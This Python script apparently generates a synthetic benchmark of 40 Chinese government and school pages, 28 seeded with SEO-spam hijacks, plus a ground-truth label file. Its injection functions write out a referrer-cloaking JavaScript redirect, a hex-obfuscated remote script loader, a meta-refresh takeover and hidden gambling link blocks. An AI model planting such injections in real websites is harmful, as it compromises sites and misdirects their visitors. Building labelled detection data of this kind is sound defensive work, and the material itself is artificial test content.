# -*- coding: utf-8 -*-
"""synthetic-v40 generator: 40 pages (28 hijacked, 12 clean of which 4 legit), 4 sites x 5 pages + 20 singles,
6 page templates (W1 Webflow-export, W2 Angular-SSR, W3 Squarespace-like, W4 Adobe-Muse export with a 信息公开
metadata table in GB18030, W5 Jimdo-like in GBK, W6 Webnode-like). Fixed seed: a re-run writes identical bytes.

Usage: python make_set.py [OUTDIR]   (default: ../synthetic-v40)
"""
import html, json, os, random, sys

SEED = 40
HERE = os.path.dirname(os.path.abspath(__file__))
OUT = os.path.abspath(sys.argv[1]) if len(sys.argv) > 1 else os.path.join(HERE, "..", "synthetic-v40")
E = html.escape

# ---------------------------------------------------------------- articles
SURN = "周吴郑冯陈褚卫蒋沈韩杨朱秦许何吕施孔曹严华金魏陶姜谢邹喻柏窦章苏潘葛范彭鲁韦马苗方俞任袁柳"
GIVEN = ["晓梅", "建国", "雨桐", "志强", "海燕", "立新", "思远", "红霞", "文博", "春生", "晓东", "丽娟", "永康", "静怡", "国栋", "子涵"]

GOV_TOPICS = [
    ("{place}部署{year}年春季森林防火工作", [
        "{md},{place}召开{year}年春季森林防火工作部署会,{org}主要负责人、各乡镇(街道)分管领导参加会议。会议通报了今冬以来全{unit}森林火情监测情况,安排部署了清明、五一等重点时段的巡护任务。",
        "会议要求,各地要严格落实“林长+检察长+警长”协作机制,加强野外用火管控,对进山入林人员开展登记和宣传提醒,确保火源管控不留死角。",
        "会上,{org}与各乡镇签订了森林防火目标责任书。据介绍,今年{place}新增生物防火林带{n1}公里,配备专业扑火队员{n2}名。"]),
    ("{place}举办{year}年“春风行动”专场招聘会", [
        "{md}上午,{year}年“春风行动”暨就业援助月专场招聘会在{place}人力资源市场举行,共有{n1}家企业提供岗位{n2}个,涵盖装备制造、电子商务、家政服务等行业。",
        "招聘会现场设置了政策咨询、技能培训报名和创业担保贷款受理等服务台,工作人员为求职者现场讲解社保补贴和稳岗返还政策。",
        "据统计,当天进场求职人员{n3}余人次,初步达成就业意向{n4}人。{org}相关负责人表示,将持续开展“线上+线下”招聘活动,帮助重点群体尽快实现就业。"]),
    ("{place}开展汛前水利工程安全隐患排查", [
        "为切实做好今年防汛准备工作,{md}起,{org}组织技术人员对全{unit}{n1}座小型水库、{n2}处山塘和主要河道堤防开展汛前安全检查。",
        "检查组逐一查看了水库大坝、溢洪道、放水设施和监测预警设备运行情况,查阅了巡查记录和应急预案,对发现的{n3}处问题隐患现场交办整改。",
        "{org}要求,各管护单位要落实“三个责任人”和“三个重点环节”,在主汛期前完成隐患整改销号,确保安全度汛。"]),
    ("{place}老年助餐服务点实现社区全覆盖", [
        "记者从{org}获悉,截至{month}月底,{place}已建成老年助餐服务点{n1}个,实现城市社区全覆盖,日均服务老年人{n2}余人次。",
        "服务点采取“中央厨房+社区配送”和“社区食堂+就近就餐”两种模式,对80周岁以上老人、低保和特困老人给予每餐2元至5元不等的补贴。",
        "下一步,{place}将把助餐服务向农村地区延伸,探索“村级互助+志愿服务”模式,让更多老年人在家门口吃上热乎饭。"]),
    ("{place}召开河长制工作推进会", [
        "{md},{place}召开全面推行河长制湖长制工作推进会,总结上一年度河湖管护工作,部署{year}年重点任务。",
        "会议指出,过去一年全{unit}共开展巡河{n1}次,清理河道垃圾{n2}吨,整治“四乱”问题{n3}处,主要河流断面水质稳定达到Ⅲ类以上。",
        "会议强调,各级河长要履职尽责,聚焦污水管网、农业面源污染和岸线管控等重点,推动河湖长制从“有名”向“有实”“有能”转变。"]),
    ("{place}启动高标准农田建设项目", [
        "{md},{place}{year}年高标准农田建设项目正式开工。项目涉及{n1}个行政村,建设面积{n2}亩,计划于当年{month}月底前完工。",
        "项目主要建设内容包括土地平整、灌溉排水、田间道路和农田防护等工程。{org}将实行项目法人制、招投标制和工程监理制,全程加强质量监管。",
        "项目建成后,预计每亩年均增产粮食{n3}公斤,可有效改善当地农业生产条件,助力粮食稳产增收。"]),
]

EDU_TOPICS = [
    ("{school}举行{year}届毕业生就业双选会", [
        "{md},{school}{year}届毕业生就业双选会在学校体育馆举行。本次双选会共吸引{n1}家用人单位进校招聘,提供岗位{n2}个。",
        "双选会现场,各学院就业工作负责人和辅导员深入展位,了解用人单位需求,帮助毕业生答疑解惑。学校还设置了简历诊断和职业咨询服务区。",
        "据统计,当天共有{n3}余名毕业生入场求职,{n4}人与用人单位达成初步就业意向。"]),
    ("{school}开展实验室安全专项检查", [
        "为进一步加强实验室安全管理,{md},{school}组织开展实验室安全专项检查,校领导带队深入各学院实验室现场查看。",
        "检查组重点检查了危险化学品存储、气瓶管理、用电安全和安全培训台账等情况,对发现的问题逐项登记,明确整改时限和责任人。",
        "学校要求,各学院要压实实验室安全主体责任,开展全员安全培训,确保实验室安全运行。"]),
    ("{school}举办第{n1}届田径运动会", [
        "{md},{school}第{n1}届田径运动会在学校田径场开幕。来自各学院的{n2}余名运动员参加了{n3}个项目的角逐。",
        "开幕式上,学生方阵依次入场,展示了青春活力和良好的精神风貌。校领导在致辞中勉励运动员赛出风格、赛出水平。",
        "经过两天的激烈比拼,共有{n4}人次打破或平校运会纪录,机电工程学院获团体总分第一名。"]),
    ("{school}召开{year}年科研工作会议", [
        "{md},{school}召开{year}年科研工作会议,总结上一年度科研工作,部署新一年重点任务。",
        "会议通报,上一年度学校新增各类科研项目{n1}项,到账科研经费{n2}万元,获授权发明专利{n3}件。",
        "会议要求,各学院要围绕地方产业需求,加强有组织科研,推动科技成果转化,为区域经济社会发展提供有力支撑。"]),
    ("{school}开展{year}级新生入学教育", [
        "{md}起,{school}面向{year}级新生开展为期两周的入学教育,内容涵盖校史校情、专业认知、安全教育和心理健康等方面。",
        "入学教育期间,学校邀请优秀校友和专业带头人为新生作专题报告,保卫处和辅导员分别开展防诈骗、消防安全和宿舍管理讲座。",
        "据悉,今年学校共迎来新生{n2}余名,各学院还组织了{n1}场专业导航活动,帮助新生尽快适应大学生活。"]),
]

LEGIT_TOPICS = [
    ("{place}召开福利彩票销售站点管理工作会议", [
        "{md},{org}召开全{unit}福利彩票销售站点管理工作会议,{n1}家福彩销售站点负责人参加。",
        "会议通报了上一年度全{unit}福利彩票销售和公益金筹集情况,强调各站点要严格执行《彩票管理条例》,坚决不向未成年人销售彩票,不得利用互联网违规销售彩票。",
        "会议还开展了责任彩票和反洗钱知识培训,并对{n2}家规范经营的销售站点进行了表彰。"]),
    ("{place}公布{year}年度体育彩票公益金使用情况", [
        "根据《彩票公益金管理办法》有关规定,现将{place}{year}年度本级体育彩票公益金使用情况公告如下。",
        "{year}年度,{place}本级使用体育彩票公益金{n1}万元,主要用于全民健身场地设施建设、群众体育赛事活动和青少年体育培训等项目。",
        "其中,新建和更新健身路径{n2}条,举办群众性体育赛事{n3}场次。欢迎社会各界对公益金使用情况进行监督。"]),
    ("{place}公安机关开展打击治理跨境赌博宣传周活动", [
        "{md}起,{place}公安机关联合教育、金融等部门开展打击治理跨境赌博宣传周活动,深入校园、社区和银行网点宣讲跨境赌博危害。",
        "活动中,民警结合近期破获的典型案例,揭露网络赌博“十赌九输”“十赌十骗”的本质,提醒群众不出租出借银行卡、电话卡,不为赌博平台引流推广。",
        "宣传周期间共发放宣传资料{n1}余份,举办专题讲座{n2}场,受众{n3}余人次。"]),
    ("{place}财政局关于规范彩票资金管理的通知", [
        "为进一步规范彩票公益金和彩票发行销售机构业务费管理,根据财政部有关规定,{org}近日印发通知,对全{unit}彩票资金管理提出明确要求。",
        "通知要求,彩票公益金要按照“收支两条线”原则全额纳入政府性基金预算管理,专款专用,不得用于平衡一般公共预算。",
        "通知同时明确,各彩票销售机构要建立业务费使用台账,每年{month}月底前向社会公告上一年度彩票公益金使用情况。"]),
]

# ---------------------------------------------------------------- invented brands and spam (checked against dev by validate_v40.py)
PORN_LINES = [
    "夜阑影院午夜免费观看_青苔视频成人高清版_蔷薇直播间免费入口",
    "晚风传媒国产自制,橘灯影视在线看,黛色小视频永久免费",
]
BRANDS = ["澜湾娱乐", "赤霄体育", "鼎泰真人", "沐辰棋牌", "琥珀电竞", "玖悦彩票", "翠微娱乐城", "乘风体育", "云栖彩", "锦麟国际"]
SPAM_DOMAINS = ["lanwan-yl.vip", "chixiao-ty.top", "dingtai88.cc", "muchen-qp.xyz", "hupo-dj.club", "jiuyue-cp.net"]


def anchors(rng, k):
    pool = ["澜湾娱乐官方入口", "赤霄体育APP下载", "鼎泰真人百家乐", "沐辰棋牌注册送金", "琥珀电竞竞猜平台",
            "玖悦彩票计划群", "翠微娱乐城开户", "乘风体育投注", "云栖彩票走势图", "锦麟国际真人视讯"]
    return rng.sample(pool, k)


def person(rng):
    return rng.choice(SURN) + rng.choice(GIVEN)


def fill(rng, topic, place, org, unit, school, year):
    title, paras = topic
    m = rng.randint(2, 11)
    d = rng.randint(1, 28)
    v = dict(place=place, org=org, unit=unit, school=school, year=year, month=min(m + 2, 12),
             md="%d月%d日" % (m, d), n1=rng.randint(12, 96), n2=rng.randint(120, 980), n3=rng.randint(3, 60),
             n4=rng.randint(40, 400))
    return title.format(**v), [p.format(**v) for p in paras], "%d-%02d-%02d" % (year, m, min(d + rng.randint(0, 2), 28))


# ---------------------------------------------------------------- templates
def date_fmt(date, style):
    y, m, d = date.split("-")
    if style == 1:
        return "%s年%s月%s日" % (y, m, d)
    if style == 2:
        return "%s/%s/%s" % (y, m, d)
    return date


def byline_html(tpl, t, style):
    """Varied byline layouts; only fields present in truth are written."""
    parts = []
    if tpl == "W4":  # 信息公开 metadata table
        rows = [("索引号", t["_index"]), ("发布机构", t["source"] or t["_sitename"]), ("主题分类", t["_cat"]),
                ("发文日期", date_fmt(t["date"], 1) if t["date"] else ""), ("文号", "")]
        cells = "".join('<tr><th>%s</th><td>%s</td></tr>' % (E(a), E(b)) for a, b in rows)
        return '<table class="xxgk-table">%s</table>' % cells
    if t["date"]:
        parts.append(("发布时间" if style != 2 else "日期", date_fmt(t["date"], style)))
    if t["source"]:
        parts.append(("来源" if style != 1 else "信息来源", t["source"]))
    if t["author"]:
        parts.append(("作者" if style != 2 else "撰稿", t["author"]) if style != 2 else ("作者", t["author"]))
    inner = "".join('<span class="m-%d">%s:%s</span>' % (i, E(a), E(b)) for i, (a, b) in enumerate(parts))
    hits = '<span class="hits">浏览次数:<em id="hits">%d</em></span>' % t["_hits"]
    if tpl == "W1":
        return '<div class="w-layout-hflex meta-row">%s%s</div>' % (inner, hits)
    if tpl == "W2":
        return '<div _ngcontent-ssr-c41="" class="article-meta">%s%s</div>' % (inner, hits)
    if tpl == "W3":
        return '<div class="sqs-block html-block"><p class="blog-meta">%s %s</p></div>' % (inner, hits)
    if tpl == "W5":
        return '<div class="j-meta">【字体:<a href="#">大</a> <a href="#">中</a> <a href="#">小</a>】 %s %s</div>' % (inner, hits)
    return '<p class="wn-meta">%s%s</p>' % (inner, hits)


def render(tpl, site, t, inj, body_paras):
    """tpl: template id; site: dict(name, host, nav); t: truth-ish dict; inj: injection fragments."""
    charset = {"W4": "gb18030", "W5": "gbk"}.get(tpl, "utf-8")
    head_title = inj.get("title") or ("%s - %s" % (t["title"], site["name"]))
    o = ["<!DOCTYPE html>", '<html lang="zh-CN"%s>' % (' data-wf-site="%s"' % site["wfid"] if tpl == "W1" else ""), "<head>"]
    o.append('<meta charset="%s">' % charset if tpl != "W4" else
             '<meta http-equiv="Content-Type" content="text/html; charset=gb18030">')
    o.append("<title>%s</title>" % E(head_title))
    o.extend(inj.get("head", []))
    css = {"W1": "webflow.shared.css", "W2": "styles.a1c3.css", "W3": "site.css?v=squarespace",
           "W4": "muse-1.0.css", "W5": "jimdo-layout.css", "W6": "webnode-style.css"}[tpl]
    o.append('<link rel="stylesheet" href="/assets/%s">' % css)
    o.append("</head>")
    if tpl == "W2":
        o.append('<body><app-root _nghost-ssr-c12="" ng-version="16.2.12">')
    elif tpl == "W4":
        o.append('<body><div class="clearfix" id="page">')
    else:
        o.append('<body class="%s">' % {"W1": "body-2", "W3": "sqs-site", "W5": "j-body", "W6": "wn-body"}.get(tpl, ""))
    o.extend(inj.get("top", []))
    nav = "".join('<a href="/%s/" class="%s">%s</a>' % (k, {"W1": "w-nav-link", "W2": "nav-link",
                   "W3": "Header-nav-item", "W4": "nonblock", "W5": "j-nav-level-0", "W6": "menu-item"}[tpl], E(v))
                  for k, v in site["nav"])
    if tpl == "W1":
        o.append('<div data-collapse="medium" class="w-nav navbar"><div class="w-container"><a href="/" class="brand w-nav-brand">%s</a><nav class="w-nav-menu">%s</nav></div></div>' % (E(site["name"]), nav))
        o.append('<div class="section"><div class="w-container"><div class="breadcrumb-line">首页 / %s / 正文</div>' % E(site["col"]))
    elif tpl == "W2":
        o.append('<app-header _ngcontent-ssr-c12=""><header class="gov-header"><div class="gov-logo">%s</div><nav class="gov-nav">%s</nav></header></app-header>' % (E(site["name"]), nav))
        o.append('<main _ngcontent-ssr-c12=""><app-article _nghost-ssr-c41=""><div class="crumbs">当前位置:首页 &gt; %s</div>' % E(site["col"]))
    elif tpl == "W3":
        o.append('<header class="Header"><div class="Header-branding">%s</div><div class="Header-nav">%s</div></header>' % (E(site["name"]), nav))
        o.append('<main class="Main Main--blog-item"><article class="BlogItem"><div class="BlogItem-topics">%s</div>' % E(site["col"]))
    elif tpl == "W4":
        o.append('<div class="Header grpelem"><div class="logo-text">%s</div><div class="MenuBar">%s</div></div>' % (E(site["name"]), nav))
        o.append('<div class="position-bar">您当前的位置:首页 &gt;&gt; 信息公开 &gt;&gt; %s</div><div class="browser_width grpelem">' % E(site["col"]))
    elif tpl == "W5":
        o.append('<div class="jtpl-header"><div class="jtpl-logo">%s</div><div class="jtpl-navigation">%s</div></div>' % (E(site["name"]), nav))
        o.append('<div class="jtpl-content"><div class="j-module n j-text"><div class="j-path">首页 &gt;&gt; %s</div>' % E(site["col"]))
    else:
        o.append('<div id="wnHeader"><div class="logo"><span class="logoTitle">%s</span></div><ul class="menu">%s</ul></div>' % (E(site["name"]), nav))
        o.append('<div id="wnContent"><div class="box"><div class="navigator">%s</div>' % E(site["col"]))
    o.extend(inj.get("before_title", []))
    o.append('<h1 class="%s">%s</h1>' % ({"W1": "heading-article", "W3": "BlogItem-title"}.get(tpl, "art-title"), E(t["title"])))
    o.append(byline_html(tpl, t, t["_bstyle"]))
    o.append('<div class="%s">' % {"W1": "w-richtext", "W2": "article-body", "W3": "sqs-html-content",
                                    "W4": "clearfix grpelem art-text", "W5": "j-text-content", "W6": "wn-article"}[tpl])
    for p in body_paras:
        o.append(p if p.startswith("<") else "<p>%s</p>" % E(p))
    o.append("</div>")
    o.extend(inj.get("after_body", []))
    o.append('<div class="pager">上一篇:%s<br>下一篇:%s</div>' % (E(t["_prev"]), E(t["_next"])))
    if tpl == "W2":
        o.append("</app-article></main>")
    elif tpl in ("W3",):
        o.append("</article></main>")
    else:
        o.append("</div></div>")
    foot = inj.get("footer", [])
    o.append('<footer class="site-footer-%s">%s<p>主办:%s 地址:%s 联系电话:%s</p><p>%s</p></footer>' % (
        tpl, "".join(foot), E(site["org"]), E(site["addr"]), site["tel"], E(site["icp"])))
    if tpl == "W2":
        o.append('</app-root><script src="/runtime.7f2a.js" type="module"></script><script src="/main.3c9e.js" type="module"></script>')
    elif tpl == "W1":
        o.append('<script src="/js/webflow.js" type="text/javascript"></script>')
    elif tpl == "W4":
        o.append("</div>")
    o.extend(inj.get("end", []))
    o.append("</body>\n</html>\n")
    return "\n".join(o), charset


# ---------------------------------------------------------------- injections (all modelled on real cases)
def inj_porn_line(rng, line):
    segs = [s for s in line.replace(",", "_").split("_") if s]
    return dict(form="porn-keyword-line", spam=segs, title=line, top=['<div class="kw-top">%s</div>' % E(line)])


def inj_brand_credit(rng, brand):
    return dict(form="brand-credit-line", spam=[brand],
                top=['<div class="promo-line">⛤%s官方入口⛥</div>' % E(brand)], title=None, title_suffix=brand)


def inj_hidden_links(rng, k=4):
    a = anchors(rng, k)
    links = "".join('<a href="https://%s/" target="_blank">%s</a> ' % (rng.choice(SPAM_DOMAINS), E(x)) for x in a)
    pos = rng.choice(["top", "after_body", "end"])
    frag = '<div style="position:absolute;top:-1200px;left:-1200px">%s</div>' % links
    return dict(form="hidden-link-block", spam=a, **{pos: [frag]})


def inj_flink_sold(rng, k=5):
    a = anchors(rng, k)
    links = " | ".join('<a href="https://%s/">%s</a>' % (rng.choice(SPAM_DOMAINS), E(x)) for x in a)
    return dict(form="friend-links-sold", spam=a, footer=['<div class="flink">友情链接:%s</div>' % links])


def inj_docwrite(rng, k=3):
    a = anchors(rng, k)
    html_ = "".join("<a href=\\'https://%s/\\'>%s</a> " % (rng.choice(SPAM_DOMAINS), x) for x in a)
    js = "<script type=\"text/javascript\">document.write('<div class=\\'tip-bar\\'>%s</div>');</script>" % html_
    return dict(form="document-write-spam", spam=a, before_title=[js])


def inj_cloak(rng):
    dom = rng.choice(SPAM_DOMAINS)
    js = ('<script>(function(){var r=document.referrer,u=navigator.userAgent.toLowerCase();'
          'if(/baidu|sogou|so\\.com|sm\\.cn|toutiao/.test(r)&&!/spider|bot/.test(u)){'
          'window.location.replace("https://%s/?from="+encodeURIComponent(location.host));}})();</script>' % dom)
    return dict(form="referrer-cloak-redirect", spam=[], head=[js], marker=dom)


def inj_hex_loader(rng):
    dom = rng.choice(SPAM_DOMAINS)
    src = "https://%s/tj.js" % dom
    hexs = "".join("\\x%02x" % ord(ch) for ch in src)
    js = ('<script>var _0x3f=["%s","script","createElement","appendChild"];(function(d){var s=d[_0x3f[2]](_0x3f[1]);'
          's.src=_0x3f[0];s.async=true;(d.body||d.documentElement)[_0x3f[3]](s);})(document);</script>' % hexs)
    return dict(form="hex-js-loader", spam=[], end=[js], marker=hexs[:24])


def inj_spam_title(rng, brand):
    kw = "%s-%s官网-%s注册平台" % (brand, brand, brand)
    return dict(form="keyword-stuffed-title", spam=[brand], title=kw + "_" + "首页")


def inj_meta_refresh(rng, brand):
    dom = rng.choice(SPAM_DOMAINS)
    return dict(form="meta-refresh-takeover", spam=[brand], title="%s官方网站" % brand,
                head=['<meta http-equiv="refresh" content="0;url=https://%s/">' % dom], marker=dom)


def inj_body_line(rng, brand):
    line = "%s官网已全面升级,新会员首存即享双倍彩金,详情请咨询%s在线客服。" % (brand, brand)
    return dict(form="spam-line-in-body", spam=[brand, line], body_line=line)


def inj_brand_dateline(rng, brand):
    return dict(form="brand-spliced-into-lead", spam=[brand], lead_prefix=brand)


# ---------------------------------------------------------------- sites and singles
SITE_DEFS = [
    dict(host="www.yundu.gov.cn", name="云渡县人民政府", org="云渡县人民政府办公室", place="云渡县", unit="县",
         col="乡镇动态", tpl="W1", kind="gov", inj="porn"),
    dict(host="www.lingchuan.gov.cn", name="泠川市人民政府", org="泠川市人民政府办公室", place="泠川市",
         unit="市", col="工作动态", tpl="W2", kind="gov", inj="hidden"),
    dict(host="www.qfzy.edu.cn", name="青枫职业技术学院", org="青枫职业技术学院党委宣传部", place="青枫", unit="校",
         col="学院新闻", tpl="W3", kind="edu", inj="dateline", school="青枫职业技术学院"),
    dict(host="www.shimei.gov.cn", name="石湄区人民政府", org="石湄区人民政府", place="石湄区", unit="区",
         col="部门信息公开", tpl="W4", kind="gov", inj="flink"),
]
SINGLE_PLACES = [
    ("www.hexiazhen.gov.cn", "禾霞镇人民政府", "禾霞镇", "镇", "gov"), ("www.songyao.gov.cn", "松窑县人民政府", "松窑县", "县", "gov"),
    ("www.baisou-s.gov.cn", "白漱市人民政府", "白漱市", "市", "gov"), ("www.jxsz.edu.cn", "景溪师范专科学校", "景溪", "校", "edu"),
    ("www.tongmo.gov.cn", "桐漠县人民政府", "桐漠县", "县", "gov"), ("www.lanqiao.gov.cn", "澜桥区人民政府", "澜桥区", "区", "gov"),
    ("www.hszy.edu.cn", "鹤山职业学院", "鹤山", "校", "edu"), ("www.xiyan-x.gov.cn", "溪砚县人民政府", "溪砚县", "县", "gov"),
    ("www.guqing.gov.cn", "谷清县人民政府", "谷清县", "县", "gov"), ("www.cmxy.edu.cn", "苍茫学院", "苍茫", "校", "edu"),
    ("www.lianfeng.gov.cn", "涟峰镇人民政府", "涟峰镇", "镇", "gov"), ("www.yuetan-s.gov.cn", "月潭市人民政府", "月潭市", "市", "gov"),
    ("www.shuangyu.gov.cn", "霜屿县人民政府", "霜屿县", "县", "gov"), ("www.bdgz.edu.cn", "碧渡高级中学", "碧渡", "校", "edu"),
    ("www.cenqiao-s.gov.cn", "岑桥市人民政府", "岑桥市", "市", "gov"), ("www.maoshan-x.gov.cn", "茆山乡人民政府", "茆山乡", "乡", "gov"),
    ("www.huaiyinzhen-x.gov.cn", "槐荫镇人民政府", "槐荫镇", "镇", "gov"), ("www.yxkj.edu.cn", "雁溪科技学院", "雁溪", "校", "edu"),
    ("tyj.nanzhu.gov.cn", "南渚县文化广电旅游体育局", "南渚县", "县", "gov"), ("gaj.qinglu.gov.cn", "青麓市公安局", "青麓市", "市", "gov"),
]
# per single page: (injection key or None, legit?)
SINGLE_PLAN = ["title", "title", "refresh", "refresh", "cloak", "cloak", "hex", "hex", "docwrite", "docwrite",
               "bodyline", "bodyline", "credit", "credit", "porn2", "hidden1", None, None, "legit", "legit"]
TPL_CYCLE = ["W5", "W6", "W1", "W2", "W3", "W4"]


def make_inj(rng, key, brand):
    if key == "porn":
        return inj_porn_line(rng, PORN_LINES[0])
    if key == "porn2":
        return inj_porn_line(rng, PORN_LINES[1])
    if key in ("hidden", "hidden1"):
        return inj_hidden_links(rng)
    if key == "flink":
        return inj_flink_sold(rng)
    if key == "dateline":
        return inj_brand_dateline(rng, brand)
    if key == "title":
        return inj_spam_title(rng, brand)
    if key == "refresh":
        return inj_meta_refresh(rng, brand)
    if key == "cloak":
        return inj_cloak(rng)
    if key == "hex":
        return inj_hex_loader(rng)
    if key == "docwrite":
        return inj_docwrite(rng)
    if key == "bodyline":
        return inj_body_line(rng, brand)
    if key == "credit":
        return inj_brand_credit(rng, brand)
    raise KeyError(key)


def main():
    rng = random.Random(SEED)
    os.makedirs(os.path.join(OUT, "html"), exist_ok=True)
    pages = []  # (site, tpl, inj_key, legit, topic, brand)
    # sites: pages 1..5 -> hijacked pattern per site (3 hijacked + 2 clean; one clean page on two sites is legit)
    site_hij = [[1, 1, 0, 1, 0], [1, 0, 1, 0, 1], [0, 1, 1, 0, 1], [1, 0, 0, 1, 1]]
    site_legit = {(0, 4): True, (3, 2): True}
    brand_i = 0
    for si, sd in enumerate(SITE_DEFS):
        site = dict(sd)
        site.update(nav=[("xwzx", "新闻中心"), ("zwgk", "政务公开") if sd["kind"] == "gov" else ("jxky", "教学科研"),
                         ("bsfw", "办事服务") if sd["kind"] == "gov" else ("zsjy", "招生就业"), ("hdjl", "互动交流")],
                    addr="%s%s路%d号" % (sd["place"], rng.choice(["人民", "建设", "文昌", "滨江"]), rng.randint(1, 299)),
                    tel="0%d-%d" % (rng.randint(510, 939), rng.randint(2100000, 8899999)),
                    icp="备案号:X ICP备%08d号" % rng.randint(10000000, 99999999), wfid="%024x" % rng.getrandbits(96))
        brand = BRANDS[brand_i]; brand_i += 1
        shared = make_inj(random.Random(SEED * 100 + si), sd["inj"], brand)
        topics = list(EDU_TOPICS if sd["kind"] == "edu" else GOV_TOPICS)
        rng.shuffle(topics)
        ti = 0
        for pi in range(5):
            legit = site_legit.get((si, pi), False)
            if legit:
                topic = LEGIT_TOPICS[0] if si == 0 else LEGIT_TOPICS[3]
            else:
                topic = topics[ti % len(topics)]; ti += 1
            pages.append((site, sd["tpl"], shared if site_hij[si][pi] else None, legit, topic))
    for i, (host, name, place, unit, kind) in enumerate(SINGLE_PLACES):
        key = SINGLE_PLAN[i]
        tpl = TPL_CYCLE[i % 6]
        site = dict(host=host, name=name, org=name, place=place, unit=unit, kind=kind, tpl=tpl,
                    col=rng.choice(["工作动态", "要闻动态", "部门动态", "通知公告"]) if kind == "gov" else rng.choice(["校园新闻", "学院动态"]),
                    school=name, nav=[("xwzx", "新闻中心"), ("gk", "信息公开"), ("fw", "服务"), ("lx", "联系我们")],
                    addr="%s%s街%d号" % (place, rng.choice(["中山", "府前", "学府", "东风"]), rng.randint(1, 199)),
                    tel="0%d-%d" % (rng.randint(510, 939), rng.randint(2100000, 8899999)),
                    icp="备案号:X ICP备%08d号" % rng.randint(10000000, 99999999), wfid="%024x" % rng.getrandbits(96))
        legit = key == "legit"
        inj = None
        if key and not legit:
            brand = BRANDS[brand_i % len(BRANDS)]; brand_i += 1
            inj = make_inj(random.Random(SEED * 1000 + i), key, brand)
        if legit:
            topic = LEGIT_TOPICS[1] if i == 18 else LEGIT_TOPICS[2]
        else:
            topic = rng.choice(EDU_TOPICS if kind == "edu" else GOV_TOPICS)
        pages.append((site, tpl, inj, legit, topic))

    rows = []
    for n, (site, tpl, inj, legit, topic) in enumerate(pages, 1):
        pid = "sv40-%03d" % n
        year = rng.choice([2023, 2024, 2025])
        title, paras, date = fill(rng, topic, site["place"], site["org"], site["unit"], site.get("school", site["name"]), year)
        bstyle = rng.choice([0, 1, 2])
        src = rng.choice([site["org"], site["name"] + ("党政办" if site["kind"] == "gov" else "宣传部"), None])
        auth = rng.choice([person(rng), None, person(rng) + " " + person(rng)])
        if tpl == "W4":
            auth = None
            src = src or site["org"]
        has_date = rng.random() > 0.12
        t = dict(title=title, date=date if has_date else None, source=src, author=auth, _hits=rng.randint(37, 4812),
                 _bstyle=bstyle, _index="%s-%s-%05d" % ("11%04d" % rng.randint(1000, 9999), year, rng.randint(1, 99999)),
                 _cat=rng.choice(["农业、林业、水利", "劳动、人事、监察", "民政、扶贫、救灾", "财政、金融、审计"]),
                 _sitename=site["name"],
                 _prev=rng.choice(["关于开展安全生产大检查的通知", "本单位召开党风廉政建设工作会议", "春季学期开学工作部署会召开"]),
                 _next=rng.choice(["无", "关于公布办事指南的公告", "我单位开展志愿服务活动"]))
        fr = dict(inj or {})
        body = list(paras)
        shown = list(paras)
        if fr.get("lead_prefix"):
            shown[0] = fr["lead_prefix"] + shown[0]
        if fr.get("body_line"):
            shown.insert(rng.randint(1, len(shown) - 1), fr["body_line"])
        if fr.get("title_suffix"):
            fr["title"] = "%s - %s - %s官方入口" % (title, site["name"], fr["title_suffix"])
        doc, charset = render(tpl, site, t, fr, shown)
        data = doc.encode(charset, "xmlcharrefreplace")
        with open(os.path.join(OUT, "html", pid + ".html"), "wb") as f:
            f.write(data)
        rows.append(dict(
            id=pid, url="https://%s/%s/%d/%s.html" % (site["host"], rng.choice(["xwzx", "zwdt", "info", "news"]), year,
                                                      "%d%02d%04d" % (year, int(date[5:7]), rng.randint(1, 9999))),
            title=title, date=t["date"], source=src, author=auth, text="\n".join(body),
            hijacked=bool(inj), injections=[fr["form"]] if inj else [], spam_strings=list(fr.get("spam", [])) if inj else [],
            legit=legit, lang="zh",
            origin="synthetic: %s page on invented host, template %s%s" % (
                site["kind"], tpl, (", injection %s" % fr["form"]) if inj else (", clean (legit lottery/gambling-regulation topic)" if legit else ", clean")),
            kind="synthetic", site=site["host"], capture="html", encoding=charset, template=tpl,
            marker=fr.get("marker")))
    with open(os.path.join(OUT, "truth.jsonl"), "w", encoding="utf-8") as f:
        for r in rows:
            f.write(json.dumps(r, ensure_ascii=False) + "\n")


if __name__ == "__main__":
    main()
